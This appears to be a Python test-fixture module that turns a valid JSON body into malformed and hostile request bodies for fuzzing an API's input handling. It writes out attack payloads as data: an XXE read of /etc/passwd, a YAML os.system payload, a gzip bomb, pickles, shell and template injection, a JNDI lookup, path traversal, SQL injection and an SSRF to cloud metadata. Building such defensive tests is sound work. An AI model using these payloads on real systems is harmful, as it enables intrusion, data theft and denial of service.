"""Bodies that no client of good will sends, made of one that works."""

from __future__ import annotations

import gzip
import json
import pickle
from collections.abc import Callable, Iterator, Mapping
from typing import Any

JSON = {"Content-Type": "application/json"}
MARK = "echo-7f3a9c"
"""Stands in every value that is made up here."""
Sent = tuple[bytes, Mapping[str, str]]
Make = Callable[[dict[str, Any]], Sent]


def as_json(value: Any) -> Sent:
    return json.dumps(value).encode(), JSON


def every(value: Any, kinds: tuple[type, ...], other: Any) -> Any:
    """The value with another in place of everything in it that is of one of these types."""
    if isinstance(value, dict):
        return {key: every(each, kinds, other) for key, each in value.items()}
    if isinstance(value, list):
        return [every(each, kinds, other) for each in value]
    return other if type(value) in kinds else value


def beside(literal: bytes) -> Make:
    """The body with one more field, whose value is no matter of `json.dumps`."""
    return lambda good: (json.dumps(good).encode()[:-1] + b', "metadata": ' + literal + b"}", JSON)


def raw(content: bytes, **headers: str) -> Make:
    return lambda good: (content, {**JSON, **{name.replace("_", "-"): value for name, value in headers.items()}})


def typed(kind: str) -> Make:
    return lambda good: (json.dumps(good).encode(), {"Content-Type": kind})


def every_text(text: str) -> Make:
    return lambda good: as_json(every(good, (str,), text))


def every_number(number: float) -> Make:
    return lambda good: as_json(every(good, (int, float), number))


def encoded(codec: str, kind: str = "application/json") -> Make:
    return lambda good: (json.dumps(good).encode(codec), {"Content-Type": kind})


def more(**fields: Any) -> Make:
    return lambda good: as_json({**good, **fields})


PICKLE = pickle.dumps({"a": MARK})
BOMB = gzip.compress(b" " * (32 << 20))

#: No route takes one of these.
REFUSED: dict[str, Make] = {
    "cut off": lambda good: (json.dumps(good).encode()[:-1], JSON),
    "one and a half": lambda good: (json.dumps(good).encode() + b'{"a": 1', JSON),
    "two": lambda good: (json.dumps(good).encode() + json.dumps(good).encode(), JSON),
    "a comment": lambda good: (json.dumps(good).encode()[:-1] + b"/* */}", JSON),
    "single quotes": lambda good: (b"{'a': '" + MARK.encode() + b"'}", JSON),
    "NaN": beside(b"NaN"),
    "Infinity": beside(b"-Infinity"),
    "1e999": beside(b"1e999"),
    "nested 400 deep": beside(b"[" * 400 + b"]" * 400),
    "nested 100,000 deep": beside(b"[" * 100_000 + b"]" * 100_000),
    "nested 100,000 deep, without an end": raw(b'{"a":' * 100_000),
    "an integer of 5,000 digits": beside(b"9" * 5000),
    "an integer of 65 bits": beside(b"%d" % 2**64),
    "a lone surrogate": beside(b'{"a": "\\ud800"}'),
    "bytes that are no text": beside(b'{"a": "\xff\xfe"}'),
    "an overlong NUL": beside(b'{"a": "\xc0\x80"}'),
    "UTF-16": encoded("utf-16"),
    "UTF-16, declared": encoded("utf-16-le", "application/json; charset=utf-16"),
    "UTF-32": encoded("utf-32"),
    "UTF-7": raw(b"+AHsAfQ-"),
    "a BOM": encoded("utf-8-sig"),
    "a key twice": lambda good: (json.dumps(good).encode()[:-1] + b', "name": "a", "name": "b"}', JSON),
    "text/plain": typed("text/plain"),
    "a form of files": typed("multipart/form-data; boundary=x"),
    "no JSON by its type": typed("application/javascript"),
    "XML": lambda good: (b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', {"Content-Type": "application/xml"}),
    "YAML": lambda good: (b"!!python/object/apply:os.system [id]", {"Content-Type": "application/yaml"}),
    "a pickle": lambda good: (PICKLE, {"Content-Type": "application/x-pickle"}),
    "a pickle of BentoML": lambda good: (PICKLE, {"Content-Type": "application/vnd.bentoml+pickle"}),
    "a pickle as JSON": raw(PICKLE),
    "a bomb": raw(BOMB, Content_Encoding="gzip"),
    "said to be packed": lambda good: (gzip.compress(json.dumps(good).encode()), {**JSON, "Content-Encoding": "gzip"}),
    "a list": lambda good: as_json([[good]]),
    "a text": lambda good: as_json(MARK),
    "a number": lambda good: as_json(7),
    "an address for the call": more(api_base=f"https://{MARK}.example", headers={"x-key": MARK}),
}


def taken_or_refused(touched: str, sink: str) -> dict[str, Make]:
    """What some field may take: then it is plain data. `touched` is a file that nothing makes, at `sink` nobody is asked."""
    return {
        "nothing": raw(b""),
        "null": lambda good: as_json(None),
        "an empty object": lambda good: as_json({}),
        "empty texts": every_text(""),
        "huge texts": every_text(MARK * 20_000),
        "NUL": every_text(f"{MARK}\0b"),
        "control characters": every_text(f"{MARK}\r\nx-injected: 1\x1b[2J\x07"),
        "directions and widths": every_text(f"{MARK}\u202e\u200b\ufeff\U000e0001"),
        "formats": every_text(MARK + "{0.__class__.__init__.__globals__}%s%n%(a)s${a}"),
        "SQL": every_text(f"{MARK}'; DROP TABLE jobs; --"),
        "a shell": every_text(f"{MARK};touch {touched};$(touch {touched})`touch {touched}`|touch {touched}"),
        "an option": every_text(f"--output={touched}"),
        "a template": every_text(MARK + "{{ cycler.__init__.__globals__.os.popen('touch " + touched + "') }}${jndi:ldap://" + sink + "/a}"),
        "a path": every_text(f"../../../../../..{touched}"),
        "a path from the root": every_text(touched),
        "an address": every_text(f"http://{sink}/{MARK}"),
        "an address of a file": every_text(f"file://{touched}"),
        "an address of the cloud": every_text("http://169.254.169.254/latest/meta-data/"),
        "numbers of 64 bits": every_number(2**63),
        "numbers below": every_number(-(2**63)),
        "fractions": every_number(1e308),
        "keys of a prototype": more(**{"__proto__": {"admin": True}, "constructor": {"prototype": {"admin": True}}}),
        "keys of a class": more(**{"__class__": MARK, "__init__": {"__globals__": MARK}, "__reduce__": [MARK]}),
        "20,000 keys": more(**{f"k{n}": MARK for n in range(20_000)}),
    }


_OTHERS: tuple[Any, ...] = (None, True, -1, 1.5, "", MARK, [], [MARK], {}, {"a": MARK})


def one_wrong(good: Any, text: str) -> Iterator[tuple[str, Any]]:
    """The body with one value replaced, for each value: by each other type, and each text by this one."""
    for path, value in _values(good, ()):
        others = [each for each in _OTHERS if type(each) is not type(value)] + ([text] if isinstance(value, str) else [])
        for n, other in enumerate(others):
            yield f"{'.'.join(map(str, path))} {n}", _with(good, path, other)


def _values(value: Any, path: tuple[Any, ...]) -> Iterator[tuple[tuple[Any, ...], Any]]:
    """Of lists the first item alone."""
    items = value.items() if isinstance(value, dict) else enumerate(value[:1]) if isinstance(value, list) else ()
    for key, each in items:
        yield (*path, key), each
        yield from _values(each, (*path, key))


def _with(value: Any, path: tuple[Any, ...], other: Any) -> Any:
    if not path:
        return other
    changed = dict(value) if isinstance(value, dict) else list(value)
    changed[path[0]] = _with(value[path[0]], path[1:], other)
    return changed
